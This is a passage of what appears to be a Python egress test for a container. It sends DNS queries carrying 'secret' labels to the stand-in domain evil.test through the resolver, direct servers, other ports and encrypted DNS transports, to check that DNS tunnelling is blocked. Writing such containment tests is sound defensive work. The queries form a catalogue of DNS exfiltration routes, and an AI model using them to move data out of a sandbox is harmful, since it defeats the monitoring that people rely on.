"""Carries data in names: by the resolver and past it, by every way and type."""


def question(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return b"\x12\x34\x01\x00\x00\x01" + bytes(6) + labels + struct.pack("!BHH", 0, kind, 1)


CODES = {0: "answered", 2: "SERVFAIL", 3: "no such name", 5: "REFUSED"}


def ask(server, name, kind=1, port=53, transport="udp"):
    tcp = transport == "tcp"
    with socket.socket(family_of(server), socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as client:
        client.settimeout(5)
        client.connect((server, port))
        message = question(name, kind)
        client.send(len(message).to_bytes(2, "big") + message if tcp else message)
        answer = client.recv(4096)[2 if tcp else 0:]
        return CODES.get(answer[3] & 15, str(answer[3] & 15)) if len(answer) > 3 else "closed"


def tcp_only(server, port):
    """Nobody listens there; an unshielded container is told so by the server."""
    return tcp(server, port)


with open("/etc/resolv.conf") as file:
    RESOLVER = [line.split()[1] for line in file if line.startswith("nameserver")][0]
for kind, name in ((1, "A"), (28, "AAAA"), (16, "TXT"), (255, "ANY"), (65, "HTTPS"), (64, "SVCB"), (10, "NULL"), (5, "CNAME"), (15, "MX")):
    step(f"the resolver, {name}", lambda: ask(RESOLVER, f"secret-{name.lower()}.evil.test", kind))
step("the resolver, by TCP, an allowed name", lambda: ask(RESOLVER, "good.test", transport="tcp"))
step("the resolver, by TCP", lambda: ask(RESOLVER, "secret-tcp.evil.test", transport="tcp"))
step("the resolver, a label of 63", lambda: ask(RESOLVER, f"{'s' * 63}.evil.test"))
step("the resolver, four labels of 50", lambda: ask(RESOLVER, ".".join(["s" * 50] * 4) + ".evil.test"))
step("the resolver, below an exact name", lambda: ask(RESOLVER, "secret.good.test"))
step("a server straight", lambda: ask("198.18.0.53", "secret-direct.evil.test"))
step("a server straight, by TCP", lambda: ask("198.18.0.53", "secret-direct.evil.test", transport="tcp"))
step("a server straight, over IPv6", lambda: ask("2001:2::53", "secret-direct.evil.test"))
step("the upstream resolver straight", lambda: ask(UPSTREAM, "secret-upstream.evil.test"))
step("the upstream resolver straight, by TCP", lambda: ask(UPSTREAM, "secret-upstream.evil.test", transport="tcp"))
for port in (5300, 5353, 853, 8853):
    step(f"port {port}", lambda: udp("198.18.0.53", port, message=question("secret-port.evil.test", 1)))
step("DNS over TLS", lambda: tcp_only("198.18.0.53", 853))
step("DNS over HTTPS", lambda: tcp("198.18.0.53", 443))
step("DNS over QUIC", lambda: udp("198.18.0.53", 443))
